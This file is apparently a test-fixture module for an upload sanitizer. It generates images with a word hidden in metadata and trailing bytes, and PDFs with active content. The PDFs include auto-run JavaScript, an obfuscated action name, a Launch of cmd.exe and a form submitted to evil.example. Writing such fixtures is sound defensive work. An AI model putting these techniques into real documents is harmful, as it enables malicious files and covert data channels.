import { createRequire } from 'node:module';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { cmsDir } from '@entente/testkit/machine/paths.mjs';

const sharp = createRequire(path.join(cmsDir, 'package.json'))('sharp');

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let bit = 0; bit < 8; bit += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (bytes) =>
  (bytes.reduce((crc, byte) => crcTable[(crc ^ byte) & 255] ^ (crc >>> 8), -1) ^ -1) >>> 0;

function pngChunk(type, content) {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  const around = Buffer.alloc(8);
  around.writeUInt32BE(content.length, 0);
  around.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([around.subarray(0, 4), body, around.subarray(4)]);
}
function jpegSegment(marker, content) {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([head, content]);
}
const webpChunk = (type, content) => {
  const head = Buffer.alloc(8);
  head.write(type, 'latin1');
  head.writeUInt32LE(content.length, 4);
  return Buffer.concat([head, content, Buffer.alloc(content.length % 2)]);
};
const withSize = (webp) => {
  const whole = Buffer.from(webp);
  whole.writeUInt32LE(whole.length - 8, 4);
  return whole;
};

/**
 * Small good pictures, and the same with a word hidden in every place where a reader that doesn't
 * look for it leaves it.
 * @returns {Promise<Record<string, Buffer>>} by ending, and what was done
 */
export async function pictures(word) {
  const text = Buffer.from(word);
  const plain = sharp({ create: { width: 64, height: 48, channels: 3, background: '#1d5c87' } });
  const [png, jpg, gif, webp] = await Promise.all([
    plain.clone().png().toBuffer(),
    plain.clone().jpeg().toBuffer(),
    plain.clone().gif().toBuffer(),
    plain.clone().webp().toBuffer(),
  ]);
  const end = png.length - 12;
  const inPng = (type, content) =>
    Buffer.concat([png.subarray(0, 33), pngChunk(type, content), png.subarray(33)]);
  const inJpeg = (marker, content) =>
    Buffer.concat([jpg.subarray(0, 2), jpegSegment(marker, content), jpg.subarray(2)]);
  const afterScreen = 13 + (gif[10] & 0x80 ? 3 * 2 ** ((gif[10] & 7) + 1) : 0);
  const inGif = (...bytes) =>
    Buffer.concat([gif.subarray(0, afterScreen), ...bytes, gif.subarray(afterScreen)]);
  const block = Buffer.concat([Buffer.from([text.length]), text, Buffer.from([0])]);
  const exif = await plain.clone().withExif({ IFD0: { ImageDescription: word, Copyright: word } });
  return {
    png,
    'png-after the end': Buffer.concat([png, text]),
    'png-tEXt': inPng('tEXt', Buffer.concat([Buffer.from('Comment\0'), text])),
    'png-zTXt': inPng('zTXt', Buffer.concat([Buffer.from(`${word}\0\0`), deflateSync(text)])),
    'png-iTXt': inPng('iTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\0\0\0\0'), text])),
    'png-a chunk of its own': inPng('prVt', text),
    'png-before the end': Buffer.concat([
      png.subarray(0, end),
      pngChunk('tEXt', Buffer.concat([Buffer.from('a\0'), text])),
      png.subarray(end),
    ]),
    'png-exif': await exif.clone().png().toBuffer(),
    jpg,
    'jpg-after the end': Buffer.concat([jpg, text]),
    'jpg-comment': inJpeg(0xfe, text),
    'jpg-two comments': Buffer.concat([inJpeg(0xfe, text), text]),
    'jpg-APP4': inJpeg(0xe4, text),
    'jpg-APP13': inJpeg(0xed, Buffer.concat([Buffer.from('Photoshop 3.0\0'), text])),
    'jpg-APP2 that is no profile': inJpeg(0xe2, text),
    'jpg-exif': await exif.clone().jpeg().toBuffer(),
    gif,
    'gif-after the end': Buffer.concat([gif, text]),
    'gif-comment': inGif(Buffer.from([0x21, 0xfe]), block),
    'gif-plain text': inGif(Buffer.from([0x21, 0x01, 12]), Buffer.alloc(12), block),
    'gif-application': inGif(Buffer.from([0x21, 0xff, 11]), Buffer.from('XMP DataXMP'), block),
    webp,
    'webp-after the end': Buffer.concat([webp, text]),
    'webp-a chunk of its own': withSize(Buffer.concat([webp, webpChunk('PRVT', text)])),
    'webp-exif': await exif.clone().webp().toBuffer(),
  };
}

/** A PDF of one empty page, its catalogue and its page with something more. */
function pdf({ catalogue = '', page = '', more = [] }) {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${page} >>`,
    ...more,
  ];
  const parts = ['%PDF-1.7\n'];
  const places = objects.map((object, place) => {
    const at = Buffer.byteLength(parts.join(''), 'latin1');
    parts.push(`${place + 1} 0 obj\n${object}\nendobj\n`);
    return at;
  });
  const table = Buffer.byteLength(parts.join(''), 'latin1');
  const rows = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`,
  );
  return Buffer.from(parts.join(''), 'latin1');
}

/** An object stream: what is in it is only seen by whoever unpacks it. */
function packed(object) {
  const body = deflateSync(Buffer.from(`5 0 ${object}`)).toString('latin1');
  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${body.length} >>\nstream\n${body}\nendstream`;
}

/** PDFs that do something when they are opened. */
export function pdfs() {
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
  return {
    'a script at its opening': pdf({ catalogue: `/OpenAction ${script}` }),
    'a script with an escaped name': pdf({
      catalogue: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>',
    }),
    'a script among its names': pdf({
      catalogue: `/Names << /JavaScript << /Names [(a) ${script}] >> >>`,
    }),
    'a script of a page': pdf({ page: `/AA << /O ${script} >>` }),
    'a script of a field': pdf({
      page: `/Annots [<< /Subtype /Widget /FT /Tx /AA << /K ${script} >> >>]`,
    }),
    'a script in a packed object': pdf({ catalogue: '/OpenAction 5 0 R', more: [packed(script)] }),
    'a program to start': pdf({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    'a form of its own (XFA)': pdf({ catalogue: '/AcroForm << /XFA [(x) 4 0 R] >>' }),
    'a film that is a program': pdf({ page: '/Annots [<< /Subtype /RichMedia >>]' }),
    'a form sent elsewhere': pdf({
      catalogue: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>',
    }),
  };
}
